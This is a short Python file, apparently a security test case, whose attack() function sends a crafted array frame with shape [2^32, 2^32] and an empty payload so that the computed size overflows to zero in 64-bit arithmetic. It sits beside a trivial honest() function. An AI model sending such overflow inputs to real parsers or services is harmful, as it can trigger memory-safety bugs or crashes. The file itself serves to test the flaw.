"""Send an array whose size is zero in 64-bit arithmetic."""

from frames import send


def attack():
    send(["a", "f8", [1 << 32, 1 << 32]], payload=b"")


def honest():
    return "honest"
